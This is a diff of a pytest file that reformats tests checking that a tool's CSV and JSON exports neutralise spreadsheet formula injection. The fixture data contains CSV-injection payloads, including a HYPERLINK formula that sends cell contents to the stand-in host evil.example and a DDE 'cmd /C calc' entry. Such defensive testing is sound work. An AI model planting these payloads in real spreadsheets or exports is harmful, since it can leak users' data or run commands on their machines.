@@ -33,8 +33,19 @@ BIN = str(Path(sys.executable).with_name("kasmina"))
 RUN = "sheet"
 NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 #: Seed ids that are formulas to a spreadsheet, and some that are not.
-SEEDS = ("@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1", "'=quoted", "''-x",
-         "-1.5", "+3e8", "plain", "-")
+SEEDS = (
+    "@SUM(1+1)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+    "'=quoted",
+    "''-x",
+    "-1.5",
+    "+3e8",
+    "plain",
+    "-",
+)
 RISKY = re.compile(r"[=+\-@\t\r]")
 NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 
@@ -44,8 +55,9 @@ def kasmina(url: str, *args: str) -> subprocess.CompletedProcess[str]:
     env = {k: v for k, v in os.environ.items() if k != "KASMINA_DB"}
     env["COLUMNS"] = "1000"
     proc = subprocess.run([BIN, "--db", url, *args], capture_output=True, env=env, timeout=120)
-    return subprocess.CompletedProcess(proc.args, proc.returncode, proc.stdout.decode(),
-                                       proc.stderr.decode())
+    return subprocess.CompletedProcess(
+        proc.args, proc.returncode, proc.stdout.decode(), proc.stderr.decode()
+    )
 
 
 @pytest.fixture
@@ -54,11 +66,19 @@ def sheet_url(attacked_url: str) -> str:
         run = ledger.start_run(name=NAME, seed=5, run_id=RUN)
         for n, seed in enumerate(SEEDS):
             slot = f"s{n}"
-            run.recorder.emit(SeedGerminated(slot_id=slot, blueprint_id=seed, params=1),
-                              stream_id=slot_stream(slot), epoch=0, seed_id=seed)
-        run.recorder.emit(EpochCompleted(val_loss=math.nan, train_loss=math.inf,
-                                         host_grad_norm=-math.inf, val_accuracy=-1.5),
-                          stream_id="run", epoch=0)
+            run.recorder.emit(
+                SeedGerminated(slot_id=slot, blueprint_id=seed, params=1),
+                stream_id=slot_stream(slot),
+                epoch=0,
+                seed_id=seed,
+            )
+        run.recorder.emit(
+            EpochCompleted(
+                val_loss=math.nan, train_loss=math.inf, host_grad_norm=-math.inf, val_accuracy=-1.5
+            ),
+            stream_id="run",
+            epoch=0,
+        )
         run.finish()
     return attacked_url
 
@@ -89,9 +109,7 @@ def _text_cells(folder: Path, table: str) -> list[tuple[str, str, object]]:
     return cells
 
 
-def test_export_csv_never_starts_a_text_cell_with_a_formula(
-    sheet_url: str, tmp_path: Path
-) -> None:
+def test_export_csv_never_starts_a_text_cell_with_a_formula(sheet_url: str, tmp_path: Path) -> None:
     out = tmp_path / "out"
     out.mkdir()
     before = fingerprint(sheet_url)
@@ -112,8 +130,10 @@ def test_export_csv_never_starts_a_text_cell_with_a_formula(
 
 def test_sql_csv_follows_the_same_rule(sheet_url: str) -> None:
     before = fingerprint(sheet_url)
-    query = (f"SELECT seed_id, epoch FROM events WHERE run_id = '{RUN}' "
-             "AND seed_id IS NOT NULL ORDER BY position")
+    query = (
+        f"SELECT seed_id, epoch FROM events WHERE run_id = '{RUN}' "
+        "AND seed_id IS NOT NULL ORDER BY position"
+    )
     proc = kasmina(sheet_url, "sql", query, "--format", "csv")
     assert proc.returncode == 0, proc.stderr
     rows = list(csv.reader(io.StringIO(proc.stdout)))
@@ -134,8 +154,11 @@ def test_history_json_is_strict_json_with_the_ledgers_markers(sheet_url: str, fm
         raise AssertionError(f"bare {constant} is not JSON")
 
     texts = [proc.stdout] if fmt == "json" else proc.stdout.splitlines()
-    events = [e for t in texts for e in
-              (lambda v: v if isinstance(v, list) else [v])(json.loads(t, parse_constant=refuse))]
+    events = [
+        e
+        for t in texts
+        for e in (lambda v: v if isinstance(v, list) else [v])(json.loads(t, parse_constant=refuse))
+    ]
     [epoch] = [e for e in events if e["event_type"] == "EpochCompleted"]
     payload = epoch["payload"]
     assert (payload["val_loss"], payload["train_loss"]) == ("NaN", "Infinity")
@@ -144,9 +167,7 @@ def test_history_json_is_strict_json_with_the_ledgers_markers(sheet_url: str, fm
 
 
 @pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "table"])
-def test_a_payload_is_its_canonical_json_text_on_both_databases(
-    sheet_url: str, fmt: str
-) -> None:
+def test_a_payload_is_its_canonical_json_text_on_both_databases(sheet_url: str, fmt: str) -> None:
     with Ledger.open(sheet_url) as ledger:
         [epoch] = [e for e in ledger.history(RUN) if e.event_type == "EpochCompleted"]
     query = f"SELECT payload FROM events WHERE position = {epoch.position}"
@@ -165,11 +186,17 @@ def test_a_payload_is_its_canonical_json_text_on_both_databases(
 
 
 def test_sql_json_spells_non_finite_floats_as_markers(sheet_url: str) -> None:
-    query = ("SELECT 9e999 AS i, -9e999 AS j" if sheet_url.startswith("sqlite")
-             else "SELECT CAST('Infinity' AS float8) AS i, CAST('-Infinity' AS float8) AS j")
+    query = (
+        "SELECT 9e999 AS i, -9e999 AS j"
+        if sheet_url.startswith("sqlite")
+        else "SELECT CAST('Infinity' AS float8) AS i, CAST('-Infinity' AS float8) AS j"
+    )
     for fmt in ("json", "jsonl"):
         proc = kasmina(sheet_url, "sql", query, "--format", fmt)
         assert proc.returncode == 0, proc.stderr
         value = json.loads(proc.stdout, parse_constant=lambda c: pytest.fail(f"bare {c}"))
-        assert value == ([{"i": "Infinity", "j": "-Infinity"}] if fmt == "json"
-                         else {"i": "Infinity", "j": "-Infinity"})
+        assert value == (
+            [{"i": "Infinity", "j": "-Infinity"}]
+            if fmt == "json"
+            else {"i": "Infinity", "j": "-Infinity"}
+        )
